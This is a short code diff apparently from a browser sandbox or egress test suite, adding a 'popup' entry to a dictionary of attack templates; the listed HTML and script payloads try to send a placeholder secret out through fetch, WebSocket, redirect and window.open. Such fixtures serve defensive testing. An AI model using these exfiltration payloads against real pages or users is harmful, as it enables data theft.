@@ -64,6 +64,8 @@ ATTACKS = {
     "dns": '<script>fetch("{dns}/dns").catch(() => 0)</script>',
     "ws": '<script>try {{ new WebSocket("{ws}/ws") }} catch (e) {{}}</script>',
     "redirect-sub": '<img src="/redirect?to={secret}/via-redirect.png">',
+    # a pop-up is closed at once, but its first load is made, and recorded on the episode
+    "popup": '<script>window.open("{secret}/popup")</script>',
     # (a file: iframe inside an http page is refused by Chromium itself before any request)
 }
 # IPv6 forms of non-public IPv4 addresses: loaded directly and as a redirect hop of a
